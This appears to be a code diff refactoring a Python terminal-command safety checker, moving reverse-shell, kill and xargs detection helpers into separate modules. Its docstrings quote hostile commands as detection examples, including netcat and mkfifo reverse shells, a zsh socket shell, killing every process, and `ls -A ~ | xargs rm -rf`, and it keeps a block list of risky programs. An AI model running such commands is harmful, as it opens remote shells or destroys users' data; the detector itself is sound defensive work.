@@ -28,14 +28,19 @@ from app.terminal.command_words import (
     expand_variables,
     interpreter_code,
     is_decoder,
-    options,
     printed_text,
     program_name,
     resolve,
     shell_code,
     tool_equivalent,
 )
-from app.terminal.computed_names import copied_program, hidden_name, record, static_words
+from app.terminal.computed_names import (
+    copied_program,
+    hidden_name,
+    hidden_program_reasons,
+    record,
+    static_words,
+)
 from app.terminal.containment import uncovered
 from app.terminal.editor_scripts import editor_script_reasons
 from app.terminal.embedded_code import (
@@ -50,8 +55,10 @@ from app.terminal.embedded_code import (
 )
 from app.terminal.nested_commands import nested_commands
 from app.terminal.pipe_checks import (
+    PIPE_DOWNLOAD,
     fetches,
     fork_bomb,
+    kill_sources,
     lists_every_process,
     name_args,
     only_shown,
@@ -60,6 +67,7 @@ from app.terminal.pipe_checks import (
     script_arguments,
     starts_from_literal,
     vital_lookup,
+    xargs_inputs,
 )
 from app.terminal.planted_text import scheduled_or_boot
 from app.terminal.precious_arguments import argument_reasons, console_writes
@@ -67,7 +75,6 @@ from app.terminal.program_checks import (
     REMOTE_SHELL,
     assignment_reasons,
     find_exec_commands,
-    find_roots,
     has_rules,
     program_reasons,
 )
@@ -77,7 +84,6 @@ from app.terminal.system_checks import emptied_passwords
 
 MAX_DEPTH = 6
 MAX_COMMAND_CHARS = 16 * 1024
-PIPE_DOWNLOAD = "runs a script straight from the internet without showing it to you"
 _SUSPICIOUS = frozenset({"rm", "dd", "shred", "wipefs", "fdisk", "parted", "shutdown", "reboot",
                          "halt", "poweroff", "init", "systemctl", "kill", "chmod", "chown", "curl",
                          "wget", "eval", "history", "unset", "truncate", "crontab", "mv",
@@ -179,40 +185,8 @@ class _Inspector:
             if command.function:
                 line.functions.setdefault(command.function, []).append(command)
             self.inspect_command(command, line, depth)
-        self._remote_shell_pipes(commands)
-        self._shell_on_connection(commands)
-
-    def _shell_on_connection(self, commands: list[Command]) -> None:
-        """`ztcp host 4444 && zsh >&$REPLY 0>&$REPLY`: a connection is opened and a shell's
-        input or output is pointed at an extra file descriptor (where the connection is)."""
-        if not any(net.connector(*name_args(c)) for c in commands):
-            return
-        for command in commands:
-            if name_args(command)[0] in SHELLS and any(
-                    r.op in (">&", "<&") and r.target.text not in ("0", "1", "2", "-")
-                    for r in command.redirects):
-                self.reasons.append(REMOTE_SHELL)
-                return
-
-    def _remote_shell_pipes(self, commands: list[Command]) -> None:
-        """`nc host 4444 | sh`, `mkfifo f; cat f | sh -i | nc host 4444 > f`: a shell whose
-        input or output flows through a network connection."""
-        kinds = {id(command): self._pipe_kind(command) for command in commands}
-        if not {"shell", "net"} <= set(kinds.values()):
-            return
-        for command in commands:
-            upstream = {kinds.get(id(c)) for c in command.upstream}
-            mine = kinds[id(command)]
-            if (mine == "shell" and "net" in upstream) or (mine == "net" and "shell" in upstream):
-                self.reasons.append(REMOTE_SHELL)
-                return
-
-    @staticmethod
-    def _pipe_kind(command: Command) -> str:
-        resolved = resolve([w.text for w in command.words])
-        if net.reads_stdin_shell(resolved.name, resolved.args, command.stdin_text is not None):
-            return "shell"
-        return "net" if net.connector(resolved.name, resolved.args) else ""
+        if net.remote_shell_pipe(commands) or net.shell_on_connection(commands):
+            self.reasons.append(REMOTE_SHELL)
 
     def _inspect_unparseable(self, text: str, depth: int) -> None:
         """Unclosed quotes and the like: read a repaired copy, and distrust risky words."""
@@ -296,7 +270,7 @@ class _Inspector:
         if posixpath.basename(resolved.head_text) in line.downloaded:
             self.reasons.append("downloads a program and runs it straight away")
         name, args = tool_equivalent(resolved.name, resolved.args)
-        piped = self._xargs_inputs(resolved, command)
+        piped = xargs_inputs(resolved, command)
         self.reasons += program_reasons(name, args, line.cwd, piped)
         prefix = [t for t in texts[:resolved.head_index] if "=" not in t]
         self.reasons += argument_reasons(name, args, line.cwd, (
@@ -314,7 +288,7 @@ class _Inspector:
         for entry in planted:
             self.inspect_hosted(entry, depth, "cron")
         if name == "kill":
-            sources = self._kill_sources(resolved, command)
+            sources = kill_sources(resolved, command)
             if any(lists_every_process(commands) for commands in sources):
                 self.reasons.append("kills every process listed by ps (all of them)")
             if vital := next(filter(None, map(vital_lookup, sources)), None):
@@ -359,7 +333,7 @@ class _Inspector:
             for recipe in make_recipes(command.stdin_text):
                 self.inspect_hosted(recipe, depth, "make")
         self._runner(resolved, command, line, depth)
-        self._foreign_code(resolved, command, line, depth)
+        self._foreign_code(resolved, fed, line, depth)
         for nested in nested_commands(name, args, has_rules):
             self.inspect_hosted(nested, depth, name)
         line.downloaded |= download_outputs(name, args)
@@ -398,41 +372,15 @@ class _Inspector:
             else:
                 self.inspect_program_text(code, depth + 1, resolved.name)
 
-    @staticmethod
-    def _kill_sources(resolved: Resolved, command: Command) -> list[list[Command]]:
-        """The commands that list the pids `kill` gets: `kill -9 $(ps -e -o pid=)`,
-        `ps -eo pid | xargs kill`, `kill $(pidof Xorg)`."""
-        sources = [list(command.upstream)] if resolved.via_xargs else []
-        for word in resolved.arg_words:
-            for inner in word.substitutions:
-                try:
-                    sources.append(parse(inner))
-                except ShellSyntaxError:
-                    continue
-        return sources
-
-    def _foreign_code(self, resolved: Resolved, command: Command, line: _Line,
+    def _foreign_code(self, resolved: Resolved, fed: str | None, line: _Line,
                       depth: int) -> None:
-        """Code a tool carries in its options (`rpm --eval`, `mvn -Dexec.executable=`) or
-        reads as a build file from its input or from a file written on the line."""
-        name, args = resolved.name, resolved.args
-        codes, commands = foreign_code.option_code(name, args)
+        """Code a tool carries in its options or reads as a build file (`foreign_code`)."""
+        codes, commands = foreign_code.carried_code(resolved.name, resolved.args, fed,
+                                                    line.written)
         for code in codes:
-            self.inspect_program_text(code, depth + 1, name)
+            self.inspect_program_text(code, depth + 1, resolved.name)
         for hidden in commands:
-            self.inspect_hosted(hidden, depth, name)
-        build_file = foreign_code.build_file_option(name, args)
-        if build_file is None:
-            return
-        text = line.written.get(build_file)
-        if build_file in ("-", "/dev/stdin"):
-            text = command.stdin_text if command.stdin_text is not None else (
-                pipeline_output(command.upstream) if command.upstream else None)
-        if text is None:
-            return
-        self.inspect_program_text(text, depth + 1, name)
-        for recipe in foreign_code.build_file_commands(name, text):
-            self.inspect_hosted(recipe, depth, name)
+            self.inspect_hosted(hidden, depth, resolved.name)
 
     def _command_variable(self, name: str, value: str, depth: int) -> None:
         """`PAGER='sh -c …'`, `LESSOPEN='|…'`: the value is a command some program runs."""
@@ -480,19 +428,7 @@ class _Inspector:
         know: that alone needs the typed confirmation (`computed_names.hidden_name`)."""
         self.certain = False
         self.reasons += [reason] if reason else []
-        if resolved.head and any(fetches(inner) for inner in resolved.head.substitutions):
-            self.reasons.append(PIPE_DOWNLOAD)
-        used = set(re.findall(r"\$\{?(\w+)", resolved.head.text if resolved.head else ""))
-        if used & line.scrambled or (resolved.head and any(map(scrambled,
-                                                               resolved.head.substitutions))):
-            self.reasons.append("runs a command rebuilt from scrambled text while it runs, so "
-                                "nobody can read it first")
-        short, long_, targets = options(resolved.args)
-        if short & {"r", "R"} or "--recursive" in long_:
-            for target in targets:
-                path = paths.expand(target, line.cwd)
-                if path and (described := paths.describe_precious(path)):
-                    self.reasons.append(f"runs a hidden command recursively on {described}")
+        self.reasons += hidden_program_reasons(resolved, line.scrambled, line.cwd)
 
     def _redirect(self, op: str, target: str, resolved: Resolved, line: _Line) -> None:
         target = expand_variables(target, line.variables)
@@ -507,23 +443,6 @@ class _Inspector:
         if op in WRITE_REDIRECT_OPS and not duplicates_fd and (
                 reason := paths.write_target_reason(target, line.cwd)):
             self.reasons.append(reason)
-
-    def _xargs_inputs(self, resolved: Resolved, command: Command) -> list[str]:
-        """What `echo … | xargs rm`, `find … | xargs rm` or `xargs rm <<< …` would append."""
-        if not resolved.via_xargs:
-            return []
-        found = command.stdin_text.split() if command.stdin_text is not None else []
-        if len(command.upstream) > 1 and (computed := pipeline_output(command.upstream)):
-            found += computed.split()
-        for upstream in command.upstream:
-            source = resolve([w.text for w in upstream.words])
-            if (printed := printed_text(source)) is not None:
-                found += printed.split()
-            elif source.name == "find":
-                found += find_roots(source.args)[0]
-            elif source.name in ("ls", "dir"):  # `ls -A ~ | xargs rm -rf`: every entry
-                found += [f"{folder.rstrip('/')}/*" for folder in options(source.args)[2]]
-        return found
 
     def _runner(self, resolved: Resolved, command: Command, line: _Line, depth: int) -> None:
         """Shells, interpreters, eval, su, ssh …: inspect the code they are handed."""
